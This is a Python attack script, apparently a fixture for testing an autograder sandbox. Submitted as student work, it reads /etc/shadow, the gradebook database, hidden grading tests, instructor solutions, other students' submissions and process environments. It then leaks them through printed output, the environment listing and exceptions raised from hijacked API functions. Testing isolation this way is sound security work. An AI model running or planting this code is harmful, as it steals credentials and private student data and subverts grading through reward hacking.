"""Read hidden tests, instructor solutions, the gradebook, other students' notebooks and /etc/shadow,
then leak them through printed output, exception messages and the environment.

category: escape
"""
import glob
import os

COURSE = "__COURSE__"
API = "__API__".split(",")
REPO = "__REPO__"
_targets = ["/etc/shadow", f"{COURSE}/gradebook.db", f"{COURSE}/nbgrader_config.py"]
for _pattern in ("source/*/*", "grading_tests/*/*", "submitted/*/*/*", "autograded/*/*/*", ".judge_cache/*/*"):
    _targets += glob.glob(f"{COURSE}/{_pattern}") + glob.glob(f"{REPO}/{_pattern}")
_targets += [f"{COURSE}/grading_tests/gru_gates/test_gates.py", f"{REPO}/grading_tests/gru_gates/test_gates.py"]
_here = os.getcwd()
for _up in range(1, 6):                      # relative walks from wherever the code runs
    _root = os.path.join(_here, *[".."] * _up)
    for _pattern in ("grading_tests/*/*", "source/*/*", "submitted/*/*/*", "gradebook.db"):
        _targets += glob.glob(os.path.join(_root, _pattern))
_targets += ["/proc/1/environ", "/proc/1/cmdline", f"/proc/{os.getppid()}/environ"]
_loot = []
for _path in _targets:
    try:
        with open(_path, "rb") as _f:
            _loot.append(f"== {_path}\n" + _f.read(200_000).decode("utf-8", "replace"))
    except OSError as exc:
        _loot.append(f"== {_path}: {exc}")
_loot.append("== environ\n" + "\n".join(f"{k}={v}" for k, v in os.environ.items()))
LOOT = "\n".join(_loot)
_read = [t for t, text in zip(_targets, _loot) if not text.startswith(f"== {t}:")]
print("ATTACK read", len(_read), "of", len(_targets), "files:", ", ".join(_read)[:300])
print(LOOT)


def _leak(*args, **kwargs):
    raise ValueError(LOOT)


for _name in API:
    globals()[_name] = _leak
